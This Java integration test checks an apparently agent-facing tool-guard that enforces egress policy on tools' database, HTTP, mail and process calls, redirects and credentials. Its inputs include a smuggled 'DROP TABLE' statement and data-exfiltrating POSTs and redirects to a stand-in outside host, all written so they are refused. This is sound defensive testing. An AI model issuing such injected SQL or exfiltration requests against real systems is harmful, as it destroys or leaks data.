package dev.toolguard.it.egress;

import com.fasterxml.jackson.databind.JsonNode;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.sun.net.httpserver.HttpServer;
import dev.toolguard.it.agent.AgentProcess;
import dev.toolguard.it.agent.AuditFile;
import dev.toolguard.it.agent.Scenario;
import dev.toolguard.it.agent.apps.EgressApp;
import org.h2.tools.Server;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * SPEC §18, acceptance 1 to 5 of the egress issue: what a guarded tool's body sends out through JDBC, the four HTTP
 * clients, Jakarta and javax Mail and child processes is checked against the tool's {@code egress} rules and the
 * bundle's {@code sequences}, and refused at its call site before anything leaves: the real database's table is
 * intact, the real HTTP server's request log and the real SMTP server's inbox stay empty. One app, one H2 TCP server,
 * one HTTP server and one GreenMail serve every test, each with calls and sessions of its own.
 */
class EgressIT {

    static final String POLICY = """
            apiVersion: toolguard.dev/v1
            kind: Policy
            metadata: {name: egress-it, version: "1"}
            default: deny
            egress:
              default_in_tools: allow
              outside_tools: audit
            tools:
              crm.read_account:
                action: allow
                egress:
                  sql: {statements: [select], tables: ["crm.*"]}
                  http: {hosts: ["crm.internal"], methods: [GET, POST]}
              email.send_external:
                action: allow
                egress:
                  mail: {recipients: ["*@partner.example"]}
                  http: deny
              report.export:
                action: allow
                egress:
                  http: {hosts: ["*"]}
              ops.inspect:
                action: allow
                egress:
                  sql: allow
              crm.sync:
                action: allow
                egress:
                  http: {hosts: ["crm.internal", "outside.example"]}
              ledger.push:                # no credential is released to it (those are for crm.* and ledger.sync)
                action: allow
                egress:
                  http: {hosts: ["crm.internal"]}
              ledger.sync:
                action: allow
                egress:
                  http: {hosts: ["crm.internal", "outside.example"]}
            sequences:
              - name: no-crm-exfiltration
                after: ["crm.read*"]
                deny: ["egress:http:POST:*"]
                within: session
                reason: CRM data may not leave by HTTP POST
            """;

    static final String SECRET = "s3cr3t-crm-7f1d9a";
    static final String ADMIN_TOKEN = "admin-token-for-egress-it";

    @TempDir
    static Path dir;
    static Scenario scenario;
    static AgentProcess app;
    static Server h2;
    static String jdbcUrl;
    static HttpServer http;
    static int httpPort;
    /** Every request the HTTP server received: method, path, and the Authorization header it carried. */
    static final List<String> requests = new CopyOnWriteArrayList<>();
    /** The headers of every request that arrived by following a redirect away from crm.internal. */
    static final List<String> redirected = new CopyOnWriteArrayList<>();
    static GreenMail smtp;
    /** A second server, reached as outside.example: where ledger.push's redirects point; it logs every request. */
    static HttpServer outside;
    static int outsidePort;
    static final List<String> outsideRequests = new CopyOnWriteArrayList<>();

    @BeforeAll
    static void startTheComponentsAndTheApp() throws Exception {
        int dbPort = freePort();
        h2 = Server.createTcpServer("-tcpPort", String.valueOf(dbPort), "-ifNotExists").start();
        jdbcUrl = "jdbc:h2:tcp://127.0.0.1:" + dbPort + "/mem:crm;DB_CLOSE_DELAY=-1";
        try (Connection c = DriverManager.getConnection(jdbcUrl, "sa", ""); Statement s = c.createStatement()) {
            s.execute("CREATE SCHEMA crm; CREATE TABLE crm.accounts(id VARCHAR PRIMARY KEY, tier VARCHAR);"
                    + " INSERT INTO crm.accounts VALUES ('acct-42', 'silver');"
                    + " CREATE SCHEMA hr; CREATE TABLE hr.salaries(name VARCHAR, amount INT);"
                    + " INSERT INTO hr.salaries VALUES ('bob', 100)");
        }
        http = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        http.createContext("/redirect-out", exchange -> {
            exchange.getRequestBody().readAllBytes();
            exchange.getResponseHeaders().add("Location", "http://outside.example:" + httpPort + "/after-redirect");
            exchange.sendResponseHeaders(307, -1);
            exchange.close();
        });
        // /hop-out/<status>/<tag>: a redirect to the outside server; /hop-in/<status>/<tag>: one to /landed-<tag> here
        http.createContext("/hop-", exchange -> {
            exchange.getRequestBody().readAllBytes();
            String[] parts = exchange.getRequestURI().getPath().split("/");
            exchange.getResponseHeaders().add("Location", parts[1].equals("hop-out")
                    ? "http://outside.example:" + outsidePort + "/exfil-" + parts[3]
                    : "http://crm.internal:" + httpPort + "/landed-" + parts[3]);
            exchange.sendResponseHeaders(Integer.parseInt(parts[2]), -1);
            exchange.close();
        });
        outside = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        outside.createContext("/", exchange -> {
            outsideRequests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI().getPath());
            exchange.getRequestBody().readAllBytes();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        outside.start();
        outsidePort = outside.getAddress().getPort();
        http.createContext("/after-redirect", exchange -> {
            redirected.add(exchange.getRequestHeaders().toString());
            exchange.getRequestBody().readAllBytes();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        http.createContext("/", exchange -> {
            String auth = exchange.getRequestHeaders().getFirst("Authorization");
            requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI().getPath() + " auth=" + auth);
            exchange.getRequestBody().readAllBytes();
            byte[] body = "hello".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        http.start();
        httpPort = http.getAddress().getPort();
        smtp = new GreenMail(new ServerSetup(freePort(), "127.0.0.1", ServerSetup.PROTOCOL_SMTP));
        smtp.start();

        scenario = new Scenario(dir);
        scenario.write("policies/egress.yaml", POLICY);
        scenario.config("""
                admin:
                  listen: 127.0.0.1:0
                  token_env: TG_ADMIN
                credentials:
                  crm_api:
                    from_env: CRM_API_TOKEN
                    http_header: {name: Authorization, value: "Bearer {secret}"}
                    hosts: ["crm.internal"]
                    tools: ["crm.*"]
                  crm_key:
                    from_env: CRM_API_TOKEN
                    http_header: {name: X-Crm-Key, value: "{secret}"}
                    hosts: ["crm.internal"]
                    tools: ["crm.*"]
                  ledger_key:
                    from_env: CRM_API_TOKEN
                    http_header: {name: X-Ledger-Key, value: "{secret}"}
                    hosts: ["crm.internal"]
                    tools: ["ledger.sync"]
                """);
        // the app resolves the test's host names to this machine, as a DNS entry would
        Path hosts = scenario.write("hosts", "127.0.0.1 crm.internal outside.example localhost\n");
        app = scenario.app().property("jdk.net.hosts.file", hosts.toString())
                .env("CRM_API_TOKEN", SECRET).env("TG_ADMIN", ADMIN_TOKEN)
                .alsoOnClasspath(AgentProcess.testClasspathJars("h2-", "jakarta.mail", "jakarta.activation",
                        "angus-", "javax.mail", "activation-", "httpclient5", "httpcore5", "okhttp", "okio",
                        "kotlin-stdlib", "slf4j-api"))
                .agentOptions("config=" + scenario.file("toolguard.yaml"))
                .main(EgressApp.class, jdbcUrl, String.valueOf(smtp.getSmtp().getPort()))
                .start();
        await().atMost(Duration.ofSeconds(60)).until(() -> app.stdout().contains("ready") || !app.alive());
        assertThat(app.alive()).as(app.stderr()).isTrue();
        // every sensor fits this JDK and these libraries
        assertThat(app.stderr()).doesNotContain("not applied").doesNotContain("could not install");
    }

    @AfterAll
    static void stopEverything() throws Exception {
        if (app != null) {
            app.close();
        }
        if (smtp != null) {
            smtp.stop();
        }
        if (http != null) {
            http.stop(0);
        }
        if (outside != null) {
            outside.stop(0);
        }
        if (h2 != null) {
            h2.stop();
        }
    }

    // ---- 1. JDBC ----

    @Test
    void aToolAllowedSelectOnCrmRunsItsSelectButNotItsUpdateAnotherSchemaOrASmuggledDrop() throws Exception {
        assertThat(call("s1", "crm.read_account", "sql SELECT tier FROM crm.accounts WHERE id = 'acct-42'"))
                .isEqualTo("ok rows");
        assertThat(call("s1", "crm.read_account", "psql SELECT tier FROM crm.accounts")).isEqualTo("ok rows");

        String update = call("s1", "crm.read_account", "sql UPDATE crm.accounts SET tier = 'platinum'");
        assertThat(update).startsWith("denied rule=tools.crm.read_account.egress.sql message=Denied by policy egress-it:")
                .contains("statement update is not among [select]");
        String prepared = call("s1", "crm.read_account", "psql UPDATE crm.accounts SET tier = 'gold'");
        assertThat(prepared).startsWith("denied rule=tools.crm.read_account.egress.sql");
        String salaries = call("s1", "crm.read_account", "sql SELECT amount FROM hr.salaries");
        assertThat(salaries).startsWith("denied rule=tools.crm.read_account.egress.sql").contains("table hr.salaries");
        String smuggled = call("s1", "crm.read_account", "sql SELECT 1 FROM crm.accounts; DROP TABLE crm.accounts");
        assertThat(smuggled).startsWith("denied rule=tools.crm.read_account.egress.sql").contains("statement drop");
        String unparseable = call("s1", "crm.read_account", "sql SELEKT everything FROM crm.accounts");
        assertThat(unparseable).startsWith("denied rule=tools.crm.read_account.egress.sql").contains("cannot be read");

        // the database never saw them
        assertThat(query("SELECT tier FROM crm.accounts WHERE id = 'acct-42'")).isEqualTo("silver");
        assertThat(query("SELECT COUNT(*) FROM hr.salaries")).isEqualTo("1");

        // each refusal is an egress record linked to its call's decision record
        JsonNode decision = decisionFor("UPDATE crm.accounts SET tier = 'platinum'");
        JsonNode egress = egressRecords().stream().filter(r -> r.path("id").asText().equals(decision.path("id").asText()))
                .findFirst().orElseThrow(() -> new AssertionError("no egress record for " + decision));
        assertThat(egress.path("tool").asText()).isEqualTo("crm.read_account");
        assertThat(egress.path("kind").asText()).isEqualTo("sql");
        assertThat(egress.path("action").asText()).isEqualTo("deny");
        assertThat(egress.path("rule").asText()).isEqualTo("tools.crm.read_account.egress.sql");
        assertThat(egress.path("target").asText()).isEqualTo("update crm.accounts");
        // the body ran (its call was allowed) and ended with the refusal
        assertThat(AuditFile.ofType(scenario.audit(), "outcome")).anySatisfy(o -> {
            assertThat(o.path("id").asText()).isEqualTo(decision.path("id").asText());
            assertThat(o.path("error").asText()).isEqualTo("dev.toolguard.api.ToolCallDeniedException");
        });
    }

    @Test
    void aDriverWhoseClassesAreNotNamedStatementOrConnectionIsSensedByWhatTheyImplement() throws Exception {
        // acme.db.Stmt / Prep / Conn, loaded in a child loader the first time inside this call
        assertThat(call("s1a", "crm.read_account", "acme UPDATE crm.accounts SET tier = 'bronze'"))
                .startsWith("denied rule=tools.crm.read_account.egress.sql").contains("statement update is not among");
        assertThat(call("s1a", "crm.read_account", "pacme UPDATE crm.accounts SET tier = 'iron'"))
                .startsWith("denied rule=tools.crm.read_account.egress.sql").contains("statement update is not among");
        assertThat(query("SELECT tier FROM crm.accounts WHERE id = 'acct-42'")).isEqualTo("silver");
        assertThat(call("s1a", "crm.read_account", "acme SELECT tier FROM crm.accounts")).isEqualTo("ok rows");
        assertThat(call("s1a", "crm.read_account", "pacme SELECT tier FROM crm.accounts")).isEqualTo("ok rows");
        // a tool free to run any SQL reaches the database through the same driver
        assertThat(call("s1a", "ops.inspect", "acme CREATE TABLE crm.acme_probe(id INT)")).isEqualTo("ok updated 0");
        assertThat(query("SELECT COUNT(*) FROM crm.acme_probe")).isEqualTo("0");
        assertThat(egressRecords()).anySatisfy(r -> {
            assertThat(r.path("tool").asText()).isEqualTo("crm.read_account");
            assertThat(r.path("target").asText()).isEqualTo("update crm.accounts");
            assertThat(r.path("action").asText()).isEqualTo("deny");
        });
    }

    // ---- 2. HTTP, four clients ----

    @Test
    void aPostToAHostNotInTheToolsListIsRefusedBeforeTheServerReceivesAnythingForEachClient() throws Exception {
        for (String client : List.of("jdk", "url", "apache", "apache-async", "apache-minimal", "okhttp")) {
            String out = call("s2", "crm.read_account", client + " POST http://outside.example:" + httpPort
                    + "/steal-" + client);
            assertThat(out).as(client).startsWith("denied rule=tools.crm.read_account.egress.http")
                    .contains("host outside.example:" + httpPort);
            String allowed = call("s2-" + client, "report.export", client + " POST http://outside.example:" + httpPort
                    + "/report-" + client);
            assertThat(allowed).as(client).isEqualTo("ok status 200 hello");
        }
        assertThat(requests).noneMatch(r -> r.contains("/steal-"));
        assertThat(requests).anyMatch(r -> r.startsWith("POST /report-okhttp"));
        assertThat(egressRecords()).anySatisfy(r -> {
            assertThat(r.path("kind").asText()).isEqualTo("http");
            assertThat(r.path("target").asText()).isEqualTo("POST outside.example:" + httpPort);
            assertThat(r.path("action").asText()).isEqualTo("deny");
        });
    }

    // ---- 3. mail ----

    @Test
    void mailToANonPartnerIsRefusedAndTheSmtpServerReceivesNothing() throws Exception {
        for (String api : List.of("jakarta", "javax")) {
            String out = call("s3", "email.send_external", api + " eve@evil.example");
            assertThat(out).as(api).startsWith("denied rule=tools.email.send_external.egress.mail")
                    .contains("recipient eve@evil.example");
        }
        assertThat(smtp.getReceivedMessages()).isEmpty();
        assertThat(call("s3", "email.send_external", "jakarta bob@partner.example")).isEqualTo("ok sent to bob@partner.example");
        assertThat(call("s3", "email.send_external", "javax carol@partner.example")).isEqualTo("ok sent to carol@partner.example");
        await().atMost(Duration.ofSeconds(10)).until(() -> smtp.getReceivedMessages().length == 2);
        assertThat(List.of(smtp.getReceivedMessages())).allSatisfy(m ->
                assertThat(m.getAllRecipients()[0].toString()).endsWith("@partner.example"));
    }

    @Test
    void mailThroughATransportsSendMessageIsCheckedWhereverTheTransportWasMade() throws Exception {
        // a transport the tool gets itself, and one the app made at start outside any call
        for (String op : List.of("jakarta-transport", "javax-held")) {
            assertThat(call("s3t", "email.send_external", op + " mallory@evil.example")).as(op)
                    .startsWith("denied rule=tools.email.send_external.egress.mail")
                    .contains("recipient mallory@evil.example");
        }
        assertThat(call("s3t", "email.send_external", "jakarta-transport dora@partner.example"))
                .isEqualTo("ok sent to dora@partner.example");
        assertThat(call("s3t", "email.send_external", "javax-held erin@partner.example"))
                .isEqualTo("ok sent to erin@partner.example");
        await().atMost(Duration.ofSeconds(10)).until(() -> receivedBy("dora@partner.example")
                + receivedBy("erin@partner.example") == 2);
        assertThat(receivedBy("mallory@evil.example")).as("what GreenMail received for the refused").isZero();

        // outside any call (outside_tools: audit) the static send is written once, not again for its sendMessage
        assertThat(call("s3t", "-", "javax frank@partner.example")).isEqualTo("ok sent to frank@partner.example");
        assertThat(call("s3t", "-", "jakarta grace@partner.example")).isEqualTo("ok sent to grace@partner.example");
        for (String to : List.of("frank@partner.example", "grace@partner.example")) {
            assertThat(egressRecords()).as(to).filteredOn(r -> r.path("target").asText().equals(to)).hasSize(1);
        }
        await().atMost(Duration.ofSeconds(10)).until(() -> receivedBy("frank@partner.example")
                + receivedBy("grace@partner.example") == 2);
        // the mail test counts the server's whole inbox: what this one delivered is gone again
        smtp.purgeEmailFromAllMailboxes();
    }

    private static long receivedBy(String recipient) {
        return java.util.Arrays.stream(smtp.getReceivedMessages()).filter(m -> {
            try {
                return m.getAllRecipients()[0].toString().equals(recipient);
            } catch (jakarta.mail.MessagingException e) {
                throw new IllegalStateException(e);
            }
        }).count();
    }

    // ---- 4. processes ----

    @Test
    void aToolStartingAProcessIsRefusedWhenExecIsNotAllowed() throws Exception {
        Path marker = dir.resolve("process-ran");
        String viaBuilder = call("s4", "ops.inspect", "exec touch " + marker);
        assertThat(viaBuilder).startsWith("denied rule=tools.ops.inspect.egress.exec").contains("may not use exec");
        String viaRuntime = call("s4", "ops.inspect", "runtime touch " + marker);
        assertThat(viaRuntime).startsWith("denied rule=tools.ops.inspect.egress.exec");
        assertThat(marker).doesNotExist();
        // outside any guarded call, egress.outside_tools: audit lets it run and writes it down
        assertThat(call("s4", "-", "exec touch " + marker)).isEqualTo("ok exit 0");
        assertThat(marker).exists();
        assertThat(egressRecords()).anySatisfy(r -> {
            assertThat(r.path("id").isNull()).isTrue();
            assertThat(r.path("kind").asText()).isEqualTo("exec");
            assertThat(r.path("rule").asText()).isEqualTo("egress.outside_tools");
            assertThat(r.path("action").asText()).isEqualTo("allow");
        });
    }

    // ---- 5. sequences over egress events ----

    @Test
    void afterACrmReadInASessionAnOutsidePostFromAnyToolOfThatSessionIsRefusedByASequence() throws Exception {
        assertThat(call("s5", "report.export", "jdk POST http://outside.example:" + httpPort + "/before-read"))
                .isEqualTo("ok status 200 hello");
        assertThat(call("s5", "crm.read_account", "sql SELECT tier FROM crm.accounts")).isEqualTo("ok rows");
        String after = call("s5", "report.export", "url POST http://outside.example:" + httpPort + "/after-read");
        assertThat(after).isEqualTo("denied rule=sequences.no-crm-exfiltration message=Denied by policy egress-it:"
                + " CRM data may not leave by HTTP POST [sequences.no-crm-exfiltration]");
        // a GET is no POST, and another session read nothing
        assertThat(call("s5", "report.export", "jdk GET http://outside.example:" + httpPort + "/get-after-read"))
                .isEqualTo("ok status 200 hello");
        assertThat(call("s5-other", "report.export", "jdk POST http://outside.example:" + httpPort + "/other-session"))
                .isEqualTo("ok status 200 hello");
        assertThat(requests).anyMatch(r -> r.startsWith("POST /before-read")).noneMatch(r -> r.contains("/after-read"));
    }

    // ---- 6. credentials ----

    @Test
    void aCredentialGoesOnlyIntoRequestsToItsHostsInsideAllowedCallsOfItsToolsAndIsWrittenNowhere() throws Exception {
        String base = "http://crm.internal:" + httpPort;
        for (String client : List.of("jdk", "url", "apache", "apache-async", "apache-minimal")) {
            assertThat(call("s6", "crm.read_account", client + " GET " + base + "/in-call-" + client))
                    .isEqualTo("ok status 200 hello");
            assertThat(call("s6", "report.export", client + " GET " + base + "/other-tool-" + client))
                    .isEqualTo("ok status 200 hello");
            assertThat(call("s6", "-", client + " GET " + base + "/outside-" + client)).isEqualTo("ok status 200 hello");
            assertThat(requests).contains("GET /in-call-" + client + " auth=Bearer " + SECRET,
                    "GET /other-tool-" + client + " auth=null", "GET /outside-" + client + " auth=null");
        }
        // a refused request of the tool: its message names the rule, never the secret
        String refused = call("s6", "crm.read_account", "jdk DELETE " + base + "/refused");
        assertThat(refused).startsWith("denied rule=tools.crm.read_account.egress.http");

        String metrics = dev.toolguard.it.agent.AdminClient.of(app, ADMIN_TOKEN).get("/metrics").body();
        assertThat(metrics).contains("toolguard_egress_total{kind=\"http\",outcome=\"allowed\"}");
        assertThat(metrics).doesNotContain(SECRET);
        assertThat(Files.readString(scenario.audit())).doesNotContain(SECRET);
        assertThat(app.stderr()).doesNotContain(SECRET);
        assertThat(app.stdout()).doesNotContain(SECRET);
        assertThat(Files.readString(scenario.file("toolguard.yaml"))).doesNotContain(SECRET);
    }

    @Test
    void aRedirectNeverCarriesACredentialToAHostItIsNotFor() throws Exception {
        String from = "http://crm.internal:" + httpPort + "/redirect-out";
        // the JDK client follows redirects inside itself, where no sensor sees them (Java 17 sends even
        // Authorization on): a client that follows them is given no credential, and that is said
        assertThat(call("s8", "crm.sync", "jdk-follow GET " + from)).startsWith("ok status 200");
        assertThat(app.stderr()).contains("credential crm_api is not released into requests of an HttpClient that"
                + " follows redirects").contains("credential crm_key is not released");
        // a connection given a credential does not follow the redirect itself: the application sees it
        assertThat(call("s8", "crm.sync", "url GET " + from)).startsWith("ok status 307");

        assertThat(redirected).hasSize(1).noneSatisfy(headers -> assertThat(headers).contains(SECRET));
        assertThat(app.stderr()).doesNotContain(SECRET);
    }

    // ---- 7. redirects: each hop a client makes by itself is checked like the first request ----

    @Test
    void aRedirectToAHostTheToolMayNotReachIsNeverSentByAnyClientWhileOneToAnAllowedHostIsFollowed() throws Exception {
        String base = "http://crm.internal:" + httpPort;
        // sync and async sending: the JDK client and OkHttp's enqueue follow redirects on threads of their own
        for (String client : List.of("jdk-follow", "jdk-follow-async", "url", "apache", "apache-async", "okhttp",
                "okhttp-async")) {
            // 302 turns a GET into a GET, 307 sends the POST (and its body) on
            for (String[] redirect : List.of(new String[] {"302", "GET"}, new String[] {"307", "POST"})) {
                String tag = client + "-" + redirect[0];
                String out = call("s9-" + tag, "ledger.push", client + " " + redirect[1] + " " + base + "/hop-out/"
                        + redirect[0] + "/" + tag);
                assertThat(out).as(tag).startsWith("denied rule=tools.ledger.push.egress.http message=Denied by policy"
                        + " egress-it: tool 'ledger.push' may not make this http egress (host outside.example:" + outsidePort
                        + " is not among [crm.internal]); the request is ").contains(" by itself");
                String in = call("s9-" + tag, "ledger.push", client + " " + redirect[1] + " " + base + "/hop-in/"
                        + redirect[0] + "/" + tag);
                assertThat(in).as(tag).isEqualTo("ok status 200 hello");
                assertThat(requests).as(tag).anyMatch(r -> r.startsWith(redirect[1] + " /landed-" + tag + " "));
            }
        }
        // HttpURLConnection also follows 305 Use Proxy: the same request, through the host the answer names
        String viaProxy = call("s9-305", "ledger.push", "url POST " + base + "/hop-out/305/url-305");
        assertThat(viaProxy).startsWith("denied rule=tools.ledger.push.egress.http").contains("host outside.example:"
                + outsidePort).contains("305 Use Proxy");
        // the outside server received nothing at all
        assertThat(outsideRequests).isEmpty();
        // each refused hop is an egress record of its call, saying what it is
        JsonNode decision = decisionFor("POST " + base + "/hop-out/307/okhttp-async-307");
        assertThat(egressRecords()).anySatisfy(r -> {
            assertThat(r.path("id").asText()).isEqualTo(decision.path("id").asText());
            assertThat(r.path("tool").asText()).isEqualTo("ledger.push");
            assertThat(r.path("target").asText()).isEqualTo("POST outside.example:" + outsidePort);
            assertThat(r.path("action").asText()).isEqualTo("deny");
            assertThat(r.path("rule").asText()).isEqualTo("tools.ledger.push.egress.http");
            assertThat(r.path("reason").asText()).contains("the request is one OkHttp made by itself");
        });
        // the async Apache client follows it on its I/O reactor's thread, where no call runs: checked against the call
        JsonNode apacheAsync = decisionFor("POST " + base + "/hop-out/307/apache-async-307");
        assertThat(egressRecords()).anySatisfy(r -> {
            assertThat(r.path("id").asText()).isEqualTo(apacheAsync.path("id").asText());
            assertThat(r.path("tool").asText()).isEqualTo("ledger.push");
            assertThat(r.path("target").asText()).isEqualTo("POST outside.example:" + outsidePort);
            assertThat(r.path("action").asText()).isEqualTo("deny");
            assertThat(r.path("rule").asText()).isEqualTo("tools.ledger.push.egress.http");
            assertThat(r.path("reason").asText()).endsWith("the request is one the Apache HttpClient async client made"
                    + " by itself (a redirect it follows, or a retry)");
        });
        JsonNode jdk = decisionFor("GET " + base + "/hop-out/302/jdk-follow-async-302");
        assertThat(egressRecords()).anySatisfy(r -> {
            assertThat(r.path("id").asText()).isEqualTo(jdk.path("id").asText());
            assertThat(r.path("target").asText()).isEqualTo("GET outside.example:" + outsidePort);
            assertThat(r.path("reason").asText()).endsWith("the request is a redirect the JDK HttpClient followed by itself");
        });
        // the body saw the failure: its call ended with it
        assertThat(AuditFile.ofType(scenario.audit(), "outcome")).anySatisfy(o -> {
            assertThat(o.path("id").asText()).isEqualTo(jdk.path("id").asText());
            assertThat(o.path("error").asText()).isNotEmpty();
        });
    }

    @Test
    void anApacheRedirectThatWouldCarryACredentialToAHostItIsNotForIsNotSentEvenWhereTheToolMayReachThatHost()
            throws Exception {
        // ledger.sync may reach outside.example, but its credential is for crm.internal only; Apache HttpClient would
        // follow the redirect with the first request's headers (it stops only at Authorization and Cookie)
        String out = call("s10", "ledger.sync", "apache GET http://crm.internal:" + httpPort + "/hop-out/302/ledger-key");
        assertThat(out).startsWith("denied rule=credentials.ledger_key message=Denied by policy egress-it: the request"
                        + " (GET outside.example:" + outsidePort + ") would carry credential ledger_key, which is not"
                        + " released to it; the request is a redirect Apache HttpClient followed by itself")
                .doesNotContain(SECRET);
        assertThat(outsideRequests).noneMatch(r -> r.contains("ledger-key"));
        // to crm.internal, which the credential is for, the redirect goes
        assertThat(call("s10", "ledger.sync", "apache GET http://crm.internal:" + httpPort + "/hop-in/302/ledger-key"))
                .isEqualTo("ok status 200 hello");
        // the async client copies the first request's headers into the redirect too: checked where it is sent, on the
        // I/O reactor's thread, against the call
        String async = call("s10", "ledger.sync", "apache-async GET http://crm.internal:" + httpPort
                + "/hop-out/302/ledger-key-async");
        assertThat(async).startsWith("denied rule=credentials.ledger_key message=Denied by policy egress-it: the request"
                + " (GET outside.example:" + outsidePort + ") would carry credential ledger_key, which is not released"
                + " to it; the request is one the Apache HttpClient async client made by itself").doesNotContain(SECRET);
        assertThat(outsideRequests).noneMatch(r -> r.contains("ledger-key"));
        assertThat(call("s10", "ledger.sync", "apache-async GET http://crm.internal:" + httpPort
                + "/hop-in/302/ledger-key-async")).isEqualTo("ok status 200 hello");
        assertThat(requests).anyMatch(r -> r.startsWith("GET /landed-ledger-key-async "));
    }

    // ---- 8. the Apache async clients, checked on the calling thread ----

    @Test
    void anApacheAsyncRequestIsCheckedOnTheCallingThreadBeforeAnythingIsSentAndARefusalIsWhatExecuteThrows()
            throws Exception {
        String base = "http://crm.internal:" + httpPort;
        for (String client : List.of("apache-async", "apache-minimal")) {
            // a host the tool may reach, with a method it may not use
            String refused = call("s11", "crm.read_account", client + " DELETE " + base + "/erase-" + client);
            assertThat(refused).as(client).isEqualTo("denied rule=tools.crm.read_account.egress.http message=Denied by"
                    + " policy egress-it: tool 'crm.read_account' may not make this http egress (method DELETE is not"
                    + " among [GET, POST]) [tools.crm.read_account.egress.http]");
            JsonNode denied = decisionFor("DELETE " + base + "/erase-" + client);
            assertThat(egressRecords()).filteredOn(r -> r.path("id").asText().equals(denied.path("id").asText()))
                    .singleElement().satisfies(r -> {
                        assertThat(r.path("tool").asText()).isEqualTo("crm.read_account");
                        assertThat(r.path("kind").asText()).isEqualTo("http");
                        assertThat(r.path("target").asText()).isEqualTo("DELETE crm.internal:" + httpPort);
                        assertThat(r.path("action").asText()).isEqualTo("deny");
                        assertThat(r.path("rule").asText()).isEqualTo("tools.crm.read_account.egress.http");
                    });
            // execute threw the refusal itself, in the body: the body's own error, as the model reads it
            assertThat(AuditFile.ofType(scenario.audit(), "outcome")).anySatisfy(o -> {
                assertThat(o.path("id").asText()).isEqualTo(denied.path("id").asText());
                assertThat(o.path("error").asText()).isEqualTo("dev.toolguard.api.ToolCallDeniedException");
            });

            long before = allowedHttpEgress();
            assertThat(call("s11", "crm.read_account", client + " GET " + base + "/fetch-" + client))
                    .isEqualTo("ok status 200 hello");
            // one check for the one request: its exchange, sent after the check, is not checked a second time
            assertThat(allowedHttpEgress() - before).as(client).isEqualTo(1);
        }
        // an endpoint leased from the minimal client sends past execute: the lease is refused where http is restricted
        assertThat(call("s11", "crm.read_account", "apache-lease GET " + base + "/leased")).startsWith(
                "denied rule=tools.crm.read_account.egress.http message=Denied by policy egress-it: tool"
                        + " 'crm.read_account' may not make this http egress (the http cannot be read (an endpoint leased"
                        + " from Apache HttpClient's minimal async client, to http://crm.internal:" + httpPort + ", sends"
                        + " requests that cannot be checked one by one), and http is restricted)");
        assertThat(call("s11", "-", "apache-lease GET " + base + "/leased-outside")).isEqualTo("ok status 200 hello");
        assertThat(requests).noneMatch(r -> r.contains("/erase-") || r.startsWith("GET /leased "))
                .anyMatch(r -> r.startsWith("GET /leased-outside "))
                .anyMatch(r -> r.startsWith("GET /fetch-apache-async "))
                .anyMatch(r -> r.startsWith("GET /fetch-apache-minimal "));
    }

    // ---- helpers ----

    private static int labels;

    /** Makes one call in the app and returns what came of it. */
    static synchronized String call(String session, String tool, String opAndArgument) throws Exception {
        String label = "c" + (++labels);
        app.send(label + " " + session + " " + tool + " " + opAndArgument);
        String[] line = new String[1];
        await().atMost(Duration.ofSeconds(60)).until(() -> {
            Optional<String> l = app.stdoutLines().stream().filter(s -> s.startsWith("call " + label + ": ")).findFirst();
            l.ifPresent(s -> line[0] = s);
            return l.isPresent() || !app.alive();
        });
        assertThat(line[0]).as(app.stderr()).isNotNull();
        String outcome = line[0].substring(("call " + label + ": ").length());
        // an internal error is never an expected outcome here: what the agent said about it belongs in the report
        assertThat(outcome).as(app.stderr()).doesNotContain("[on_error]");
        return outcome;
    }

    /** The agent's count of allowed http egress so far, from its metrics. */
    static long allowedHttpEgress() throws Exception {
        String metrics = dev.toolguard.it.agent.AdminClient.of(app, ADMIN_TOKEN).get("/metrics").body();
        String line = "toolguard_egress_total{kind=\"http\",outcome=\"allowed\"} ";
        return metrics.lines().filter(l -> l.startsWith(line)).mapToLong(l -> (long) Double.parseDouble(
                l.substring(line.length()).trim())).findFirst().orElse(0);
    }

    static List<JsonNode> egressRecords() {
        return AuditFile.ofType(scenario.audit(), "egress");
    }

    static JsonNode decisionFor(String argument) {
        return AuditFile.ofType(scenario.audit(), "decision").stream()
                .filter(d -> d.path("args").path("argument").asText().equals(argument)).findFirst()
                .orElseThrow(() -> new AssertionError("no decision record with argument " + argument));
    }

    static String query(String sql) throws Exception {
        try (Connection c = DriverManager.getConnection(jdbcUrl, "sa", ""); Statement s = c.createStatement();
             ResultSet r = s.executeQuery(sql)) {
            r.next();
            return r.getString(1);
        }
    }

    static int freePort() throws Exception {
        try (ServerSocket s = new ServerSocket(0)) {
            return s.getLocalPort();
        }
    }
}
